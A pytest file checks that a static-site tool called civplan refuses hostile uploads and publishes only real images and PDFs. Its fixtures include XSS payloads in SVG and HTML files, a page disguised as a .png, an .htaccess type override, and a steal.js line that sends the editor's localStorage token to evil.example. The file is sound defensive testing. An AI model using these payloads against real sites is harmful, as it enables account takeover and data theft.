"""Issue 28, item 2: files under docs/assets/uploads/ are inert by construction.

A pull request (or the editor's persistMedia) adds an SVG with a script, a web page, a Markdown
page with the script it loads, or a page dressed as a picture; `civplan check` and the build
refuse each by its bytes and its name, and nothing of it reaches site/. Real pictures and PDF
files pass and are published. (The editor's API: test_cms_server_attacks.py.)
"""

from __future__ import annotations

import re

import pytest

from conftest import SAMPLE, build, civplan, make_project

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00"
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
HOSTILE = {
    "poster.svg": b'<svg xmlns="http://www.w3.org/2000/svg">\n<script>alert(1)</script></svg>\n',
    "notice.html": b"<!doctype html><script>localStorage.clear()</script>\n",
    "page.md": b'# \xe9\x80\x9a\xe7\x9f\xa5\n\n<script src="steal.js"></script>\n',
    "steal.js": b"fetch('//evil.example/?' + localStorage.getItem('decap-cms-user'))\n",
    "look.css": b"body { display: none }\n",
    "photo.png": b"<svg onload=alert(1) xmlns='http://www.w3.org/2000/svg'/>",  # a page as .png
    "scan.pdf.html": PDF,  # a PDF's bytes, but a server sends .html as a page
    "2026/sub/.htaccess": b"AddType text/html .png\n",
}
MESSAGE = "上传文件夹只允许 PNG、JPEG、GIF、WebP 图片和 PDF 文件"


def project(tmp_path, files: dict[str, bytes]):
    root = make_project(tmp_path, plans={SAMPLE.name: SAMPLE.read_text("utf-8")})
    uploads = root / "docs" / "assets" / "uploads"
    for name, content in files.items():
        (uploads / name).parent.mkdir(parents=True, exist_ok=True)
        (uploads / name).write_bytes(content)
    return root


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    return project(tmp_path_factory.mktemp("hostile"), HOSTILE)


def test_check_names_every_hostile_upload_with_the_rule(hostile):
    result = civplan("check", cwd=hostile)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    lines = [line for line in result.stdout.splitlines() if "[upload-type]" in line]
    named = sorted(line.split(":1: 错误 ", 1)[0] for line in lines)
    assert named == sorted(f"docs/assets/uploads/{name}" for name in HOSTILE)
    assert all(MESSAGE in line for line in lines)
    assert "扩展名说它是 PNG，内容却是无法识别的内容" in result.stdout  # the page dressed as .png


def test_check_of_one_plan_still_sees_the_uploads(hostile):
    result = civplan("check", f"plans/{SAMPLE.name}", cwd=hostile)
    assert result.returncode == 1 and "docs/assets/uploads/poster.svg:1: 错误 " in result.stdout


def test_the_build_stops_on_hostile_uploads_and_publishes_none(hostile):
    result = build(hostile)
    assert result.returncode != 0
    for name in HOSTILE:
        assert f"docs/assets/uploads/{name}:1: 错误 " in result.output, name
        assert not (result.site / "assets" / "uploads" / name).exists()
    assert not (result.site / "assets" / "uploads" / "page").exists()


def test_a_symlink_in_uploads_is_refused_not_followed(tmp_path):
    root = project(tmp_path, {"a.png": PNG})
    secret = tmp_path / "environ.png"
    secret.write_bytes(PNG + b"SECRET=1")
    (root / "docs" / "assets" / "uploads" / "env.png").symlink_to(secret)
    (root / "docs" / "assets" / "uploads" / "more").symlink_to(tmp_path, target_is_directory=True)
    result = civplan("check", cwd=root)
    assert result.returncode == 1
    for name in ("env.png", "more"):  # each said once, whichever walk finds it
        said = [line for line in result.stdout.splitlines() if f"uploads/{name}:" in line]
        assert len(said) == 1 and "符号链接" in said[0], result.stdout


def test_real_pictures_and_pdf_files_pass_and_are_published(tmp_path):
    files = {
        "logo.png": PNG,
        "photo.JPG": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00",
        "anim.gif": b"GIF89a\x01\x00\x01\x00\x00\x00\x00;",
        "pic.webp": b"RIFF\x1a\x00\x00\x00WEBPVP8 \x0e\x00\x00\x00",
        "2026/方案附件.pdf": PDF,
    }
    root = project(tmp_path, files)
    checked = civplan("check", cwd=root)
    assert checked.returncode == 0 and "upload-type" not in checked.stdout, checked.stdout
    result = build(root)
    assert result.returncode == 0, result.output[-3000:]
    for name, content in files.items():
        assert (result.site / "assets" / "uploads" / name).read_bytes() == content


def test_the_builds_last_wall_refuses_what_mkdocs_would_publish_from_uploads(tmp_path):
    """For a build whose check did not see the folder: the files MkDocs lists are judged again."""
    from civplan.model.uploads import published_problems

    docs = tmp_path / "docs"
    (docs / "assets" / "uploads").mkdir(parents=True)
    for name, content in {
        "a.png": PNG,
        "page.md": b"# x\n",
        "x.svg": HOSTILE["poster.svg"],
    }.items():
        (docs / "assets" / "uploads" / name).write_bytes(content)
    (docs / "index.md").write_text("# 首页\n", "utf-8")
    listed = [
        (uri, str(docs / uri))
        for uri in (
            "index.md",
            "assets/uploads/a.png",
            "assets/uploads/page.md",
            "assets/uploads/x.svg",
        )
    ]
    refused = [str(p) for p in published_problems(listed, docs, tmp_path)]
    assert [line.split(":1: ")[0] for line in refused] == [
        "docs/assets/uploads/page.md",
        "docs/assets/uploads/x.svg",
    ]
    assert all(MESSAGE in line and line.endswith("[upload-type]") for line in refused)


def test_the_editor_can_be_built_for_an_origin_of_its_own(tmp_path):
    """Issue 28 item 2: CIVPLAN_ADMIN_DIR takes /admin/ out of the public site, whole, so that
    no file on the public origin shares an origin with the editor's token."""
    root = make_project(tmp_path / "p")
    result = build(root, CIVPLAN_ADMIN_DIR="admin-site")
    assert result.returncode == 0, result.output
    assert not (result.site / "admin").exists()
    admin = root / "admin-site"
    page = (admin / "index.html").read_text("utf-8")
    for src in re.findall(r'(?:src|href)="([^":]+)"', page):
        assert (admin / src).is_file(), src  # everything it loads is beside it
    assert (admin / "config.yml").is_file()
